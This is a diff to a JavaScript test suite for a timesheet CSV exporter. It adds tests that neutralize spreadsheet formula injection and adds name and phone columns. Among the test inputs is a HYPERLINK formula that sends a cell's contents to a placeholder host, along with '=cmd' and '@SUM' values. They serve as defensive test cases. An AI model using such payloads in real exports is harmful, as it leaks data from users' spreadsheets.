@@ -12,24 +12,76 @@ describe('timesheet CSV (RFC 4180)', () => {
     expect(parse(line)).toEqual([['x', 'a,b', 'q"q', 'l1\r\nl2']]);
   });
 
-  it('should write a worker-day as worker, date, first in, last out, hours, flags, corrected, seqs', () => {
-    const row = csvRow({
+  it('should neutralize a cell a spreadsheet would run as a formula (OWASP: =, +, -, @, tab, CR)', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+      const value = `${start}HYPERLINK("http://x.test/?"&A1,"pay")`;
+      const cell = csvField(value);
+      expect(cell.startsWith(`"'${start}`)).toBe(true);
+      // an RFC 4180 reader gets the value back with only the quote before it
+      expect(parse(csvLine([value, 'next']))).toEqual([[`'${value}`, 'next']]);
+    }
+    expect(csvField('+91 98100 00001')).toBe(`"'+91 98100 00001"`);
+    expect(csvField('=1+2,3')).toBe(`"'=1+2,3"`);
+    // the characters only count at the start
+    expect(csvField('Sita =Devi')).toBe('Sita =Devi');
+    expect(csvField('2026-03-02')).toBe('2026-03-02');
+  });
+
+  it("should write the worker's name and phone after its id, quoted and neutralized", () => {
+    const day = {
       workerId: 'w1',
       date: '2026-03-02',
-      firstIn: '2026-03-02T22:00:00+05:30',
-      hours: 0,
-      workedSeconds: 0,
+      hours: 8,
+      workedSeconds: 28_800,
       shifts: [],
-      flags: [
-        { type: 'open_shift', seq: 3 },
-        { type: 'fraud', seq: 3, detail: 'outside_geofence' },
-      ],
-      flagged: true,
+      flags: [],
+      flagged: false,
       corrected: false,
-      seqs: [3, 9],
-    });
+      seqs: [1, 2],
+    };
+    const person = { name: 'Devi, "Sita"\n=cmd', phone: '+91 98100 00001' };
+    const line = csvRow(day, person);
+    expect(parse(line)).toEqual([
+      [
+        'w1',
+        'Devi, "Sita"\n=cmd',
+        "'+91 98100 00001",
+        '2026-03-02',
+        '',
+        '',
+        '8.00',
+        '',
+        'false',
+        '1 2',
+      ],
+    ]);
+    expect(
+      parse(csvRow(day, { name: '@SUM(A1:A9)', phone: '98100 00001' }))[0].slice(1, 3),
+    ).toEqual(["'@SUM(A1:A9)", '98100 00001']);
+    expect(parse(csvRow(day))[0].slice(0, 4)).toEqual(['w1', '', '', '2026-03-02']);
+  });
+
+  it('should write a worker-day as worker, name, phone, date, first in, last out, hours, flags, corrected, seqs', () => {
+    const row = csvRow(
+      {
+        workerId: 'w1',
+        date: '2026-03-02',
+        firstIn: '2026-03-02T22:00:00+05:30',
+        hours: 0,
+        workedSeconds: 0,
+        shifts: [],
+        flags: [
+          { type: 'open_shift', seq: 3 },
+          { type: 'fraud', seq: 3, detail: 'outside_geofence' },
+        ],
+        flagged: true,
+        corrected: false,
+        seqs: [3, 9],
+      },
+      { name: 'Sita Devi', phone: '98100 00001' },
+    );
     expect(row).toBe(
-      'w1,2026-03-02,2026-03-02T22:00:00+05:30,,0.00,open_shift@3; fraud:outside_geofence@3,false,3 9\r\n',
+      'w1,Sita Devi,98100 00001,2026-03-02,2026-03-02T22:00:00+05:30,,0.00,open_shift@3; fraud:outside_geofence@3,false,3 9\r\n',
     );
   });
 });
